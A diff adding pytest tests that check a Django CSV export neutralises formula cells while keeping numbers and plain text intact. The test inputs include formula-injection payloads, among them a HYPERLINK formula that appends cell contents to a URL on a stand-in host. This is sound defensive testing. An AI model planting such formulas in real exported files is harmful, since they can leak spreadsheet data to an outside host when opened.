@@ -192,3 +192,34 @@ def test_export_run_create_of_an_inactive_definition_is_refused():
         services.export_run_create(definition=definition, actor=ACTOR)
     assert caught.value.code == "export_definition_inactive"
     assert not ExportRun.objects.exists()
+
+
+def test_export_run_execute_neutralises_formula_cells_and_keeps_numbers_and_plain_text():
+    given = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "-12.50", "+3",
+             "Zoë", "a=b"]  # fmt: skip
+    for number, value in enumerate(given):
+        MemberFactory(external_id=f"M-{number:02}", first_name=value, transaction_count=number)
+    definition = create(columns=["external_id", "first_name", "transaction_count"])
+    run = services.export_run_execute(run_id=services.export_run_create(definition=definition, actor=ACTOR).pk,
+                                      actor=ACTOR)  # fmt: skip
+    rows = read_csv(run)[1:]
+    assert [row[1] for row in rows] == [
+        '\'=HYPERLINK("http://x.example/?"&A1)', "'+SUM(A1:A9)", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR", "-12.50",
+        "+3", "Zoë", "a=b",
+    ]  # fmt: skip
+    assert [row[2] for row in rows] == [str(number) for number in range(len(given))]
+    assert run.rows == len(given)
+
+
+@pytest.mark.postgres
+@pytest.mark.django_db(transaction=True)
+def test_export_copy_on_its_own_connection_neutralises_computed_text_columns_too():
+    member = MemberFactory(external_id="M-1", first_name="=1+1", transaction_count=7)
+    member.segments.add(SegmentFactory(code="@VIP"))
+    definition = create(columns=["external_id", "first_name", "transaction_count", "segments", "registered_at"])
+    run = services.export_run_execute(run_id=services.export_run_create(definition=definition, actor=ACTOR).pk,
+                                      actor=ACTOR)  # fmt: skip
+    header, row = read_csv(run)
+    assert header == ["external_id", "first_name", "transaction_count", "segments", "registered_at"]
+    assert row[:4] == ["M-1", "'=1+1", "7", "'@VIP"]
+    assert row[4].startswith(str(member.registered_at.year))
